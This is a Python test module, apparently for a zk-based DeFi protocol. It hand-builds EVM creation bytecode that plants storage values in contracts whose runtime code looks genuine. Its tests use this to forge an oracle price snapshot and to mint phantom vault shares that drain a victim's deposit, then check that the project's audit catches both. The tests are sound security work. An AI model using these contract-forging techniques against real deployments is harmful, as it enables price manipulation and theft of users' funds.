"""Attack: contracts with the right code, whose creation wrote something into their storage."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import market as markets
import pytest
from eth_abi import encode
from eth_utils import keccak, to_checksum_address
from market import Market, rpc

from dls_zk import chain
from dls_zk.chain import Protocol
from dls_zk.chain.deployment import create, deploy
from dls_zk.chain.share import Asset, Share
from dls_zk.chain.transactions import Call


@pytest.fixture(scope="module")
def market(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Market]:
    with markets.market(tmp_path_factory.mktemp("journal")) as found:
        yield found


def creation(writes: dict[int, int], runtime: bytes, call: tuple[str, bytes] | None = None) -> bytes:
    """Creation code that writes to storage, calls a contract, and leaves a code."""
    head = b"".join(b"\x7f" + v.to_bytes(32, "big") + b"\x7f" + k.to_bytes(32, "big") + b"\x55" for k, v in writes.items())
    data = call[1] if call else b""

    def copied(size: int, offset: int) -> bytes:  # codecopy(0, offset, size)
        return b"\x62" + size.to_bytes(3, "big") + b"\x62" + offset.to_bytes(3, "big") + b"\x5f\x39"

    def whole(offset: int) -> bytes:
        code = head
        if call:
            code += copied(len(data), offset)
            # call(gas, to, 0, 0, size, 0, 0)
            code += b"\x5f\x5f\x62" + len(data).to_bytes(3, "big") + b"\x5f\x5f"
            code += b"\x73" + bytes.fromhex(call[0][2:]) + b"\x5a\xf1\x50"
        code += copied(len(runtime), offset + len(data))
        return code + b"\x62" + len(runtime).to_bytes(3, "big") + b"\x5f\xf3"

    return whole(len(whole(0))) + data + runtime


def deployed(sender: chain.Sender, code: bytes, name: str) -> str:
    mined = sender.perform((name,), Call(None, code))
    assert mined and mined.receipt["contractAddress"]
    return to_checksum_address(mined.receipt["contractAddress"])


def mapped(key: bytes, slot: int) -> int:
    return int.from_bytes(keccak(key.rjust(32, b"\0") + slot.to_bytes(32, "big")), "big")


def test_an_oracle_with_a_snapshot_from_its_creation_is_found(market: Market, monkeypatch: pytest.MonkeyPatch) -> None:
    on, owner = market.chain, market.owner
    number, at = 1_000_000, on.now() + 1000
    prices = {0: 10**8, 1: 1}  # a dollar, and an ether for 1e-8 dollars
    base = mapped(number.to_bytes(32, "big"), 2)
    writes = {base: 1 | at << 32 | 8 << 72, base + 1: prices[0] | prices[1] << 48}
    real = market.protocol.artifacts["PriceOracle"]
    evil = deployed(owner, creation(writes, bytes.fromhex(real.runtime.removeprefix("0x"))), "evil oracle")

    def swapped(sender: chain.Sender, artifact, *arguments: object) -> str:  # type: ignore[no-untyped-def]
        return evil if artifact.name == "PriceOracle" else create(sender, artifact, *arguments)

    monkeypatch.setattr("dls_zk.chain.deployment.create", swapped)
    told = deploy(owner, [market.trapdoor.key])
    protocol = Protocol.on(on, told)
    monkeypatch.undo()
    other = replace(market, protocol=protocol)
    from dls_zk.chain.oracle import FeedSet, development_feeds

    named = development_feeds({name: feed.address for name, feed in market.feeds.items()}, 30 * 86_400, 65_535)
    assert protocol.oracle.add_feed_set(owner, FeedSet.of(named, market.policy)) == 1
    protocol.registry.register(owner, market.policy)
    vault = other.open("victim", feed_set=1, key=protocol.key_for(8))
    rpc(on, "evm_increaseTime", 1100)
    rpc(on, "evm_mine")
    forged = protocol.oracle.snapshot(number)
    proven = vault.rebalance(forged).proven()
    from dls_zk.calldata import ProofArguments

    place = proven.terms.place
    call = protocol.hub.submission(vault.id, ProofArguments.from_proof(proven.proof), number, place.deadline)
    owner.perform(("forged",), call)
    assert protocol.hub.state(vault.id).round == number  # accepted at prices that no feed ever had
    assert [finding for finding in chain.audit(protocol) if finding.fault], "the audit sees nothing"


def test_a_share_token_with_shares_from_its_creation_is_found(market: Market) -> None:
    on, owner, thief, victim = market.chain, *market.people[:3]
    protocol = market.protocol
    token = protocol.artifacts["DevAsset"]
    asset = Asset(on, token, create(owner, token, "USDC", "USDC"))
    mandate = protocol.hub.add_mandate(owner, market.mandate)
    honest = Share.open(owner, protocol, asset.address, "V", "V", owner.address, mandate, thief.address)
    nonce = on.transaction_count(thief.address)
    import rlp

    address = to_checksum_address(keccak(rlp.encode([bytes.fromhex(thief.address[2:]), nonce]))[12:])
    id_ = keccak(encode(["uint256", "address", "address", "uint256"], [on.chain_id, protocol.hub.address, address, 0]))
    code = on.code(honest.address).replace(honest.vault, id_)
    opening = protocol.hub.call("openVault", thief.address, "0x" + "00" * 20, 86_400, mandate).data
    writes = {mapped(bytes.fromhex(thief.address[2:]), 0): 10**40}  # shares that no supply counts
    evil = deployed(thief, creation(writes, code, (protocol.hub.address, opening)), "evil share")
    assert evil == address
    share = Share.of(protocol, id_)
    if share is None:
        return
    asset.mint(owner, victim.address, 10**9)
    share.deposit(victim, 10**9)
    most = share.read("maxWithdraw", thief.address)
    thief.perform(("steal",), share.call("withdraw", most, thief.address, thief.address))
    assert share.holdings().idle > 0, f"taken: {asset.balance(thief.address)} of {10**9}; the code is 'as compiled'"
